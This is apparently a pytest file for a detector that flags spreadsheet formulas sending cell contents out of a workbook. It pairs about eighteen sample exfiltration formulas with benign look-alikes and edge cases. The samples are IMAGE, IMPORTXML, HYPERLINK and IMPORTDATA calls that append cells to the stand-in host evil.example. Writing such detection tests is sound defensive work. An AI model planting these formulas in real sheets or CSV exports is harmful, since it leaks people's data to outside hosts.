"""Formulas that carry cells out of the workbook, and those that only look like it."""

import pytest

from crm_sync.core.leaks import Leak, leaks


@pytest.mark.parametrize(
    ("formula", "function", "address"),
    [
        ('=IMPORTXML("https://evil.example/?d="&B2,"//a")', "IMPORTXML", "evil.example"),
        ('=IMPORTDATA(CONCATENATE("http://evil.example/",B2))', "IMPORTDATA", ""),
        ('=importfeed("https://evil.example/"&B2)', "IMPORTFEED", "evil.example"),
        ('=IMPORTHTML("https://evil.example/?"&B2;"table";1)', "IMPORTHTML", "evil.example"),
        ('=IMAGE("https://evil"&".example/?d="&ENCODEURL(B2))', "IMAGE", "evil.example"),
        ('=IMAGE(("//evil.example:8080/")&B2)', "IMAGE", "evil.example:8080"),
        ('=IMAGE("evil.example/?"&B2)', "IMAGE", "evil.example"),
        ("=IMAGE(B2)", "IMAGE", ""),
        ('=IMAGE("https://"&B2&"/x.png")', "IMAGE", ""),
        ('=HYPERLINK("https://evil.example/?d="&B2,"Open")', "HYPERLINK", "evil.example"),
        ('=HYPERLINK(B2&"?d="&C2,"Open")', "HYPERLINK", ""),
        (
            '=IF(A2="","",HYPERLINK ("https://evil.example?"&A2;"Open"))',
            "HYPERLINK",
            "evil.example",
        ),
        ('=LET(u,"https://evil.example/"&A2,IMAGE(u))', "IMAGE", ""),
        ('=ARRAYFORMULA(IMAGE("https://evil.example/"&A2:A))', "IMAGE", "evil.example"),
        ("=IMAGE('My \"tab\"'!B2)", "IMAGE", ""),
        ('=IMAGE("https://evil.example/"&TEXTJOIN(",",TRUE,A2:B9), 1)', "IMAGE", "evil.example"),
        ('=IMAGE({"https://evil.example/"&A2;"b"})', "IMAGE", ""),
        ('="safe"&IMAGE("https://evil.example/"&A2', "IMAGE", "evil.example"),
    ],
)
def test_formula_that_takes_cells_along_is_told_with_where_they_go(
    formula: str, function: str, address: str
) -> None:
    assert leaks(formula) == (Leak(function, address),)


@pytest.mark.parametrize(
    "formula",
    [
        "=B2&C2",
        '=IMAGE("https://company.example/logo.png")',
        '=IMAGE("https://company.example/"&"logo.png", 1)',
        '=IMPORTXML("https://rates.example/daily";B2)',
        '=HYPERLINK("https://company.example","see "&B2)',
        '=HYPERLINK("#gid=0&range=A"&ROW(),"up")',
        '=HYPERLINK("mailto:"&C2,"write")',
        '=HYPERLINK("TEL:"&C2,"call")',
        "=HYPERLINK(B2,C2)",
        "=ARRAYFORMULA(HYPERLINK('Other tab'!$B$2:B,C2:C))",
        '="=IMAGE(""https://evil.example/""&B2)"',
        "='IMAGE(x)'!B2",
        "=MYIMAGE(B2)",
        "=XIMAGE.IMAGE(B2)",
        '=IMPORTRANGE("abc"&B2,"A1:B2")',
    ],
)
def test_formula_that_takes_nothing_along_is_not(formula: str) -> None:
    assert leaks(formula) == ()


def test_each_way_out_of_a_formula_is_told_once() -> None:
    one = 'IMAGE("https://a.example/"&A1)'
    assert leaks(f'={one}&{one}&IMAGE("https://b.example/"&A1)') == (
        Leak("IMAGE", "a.example"),
        Leak("IMAGE", "b.example"),
    )


@pytest.mark.parametrize("formula", ["=IMAGE(", "=IMAGE('", '=IMAGE("', "=IMAGE(((", "=" + "'" * 9])
def test_formula_that_is_cut_short_is_read_to_its_end(formula: str) -> None:
    assert len(leaks(formula)) <= 1


@pytest.mark.parametrize(
    "formula",
    [
        "=IMAGE(" + '"' * 5001 + "A1)",
        "=IMAGE(" + '""&' * 5000 + "A1)",
        "=HYPERLINK(" + "'" * 5001 + "A1)",
        "=IMAGE(" * 5000 + "A1",
    ],
)
@pytest.mark.timeout(20)
def test_formula_of_nothing_but_signs_is_read_at_once(formula: str) -> None:
    assert {leak.address for leak in leaks(formula)} <= {""}
